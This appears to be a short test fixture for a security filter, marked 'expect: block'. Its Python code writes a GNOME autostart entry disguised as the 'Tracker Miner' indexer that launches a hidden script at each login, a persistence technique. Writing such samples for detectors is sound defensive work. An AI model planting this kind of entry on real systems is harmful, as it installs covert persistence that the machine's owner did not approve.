# expect: block
from pathlib import Path

entry = """[Desktop Entry]
Type=Application
Name=Tracker Miner
Exec=sh -c "python3 ~/.local/share/.tm.py"
X-GNOME-Autostart-enabled=true
"""
d = Path.home() / ".config" / "autostart"
d.mkdir(parents=True, exist_ok=True)
(d / "tracker-miner.desktop").write_text(entry)
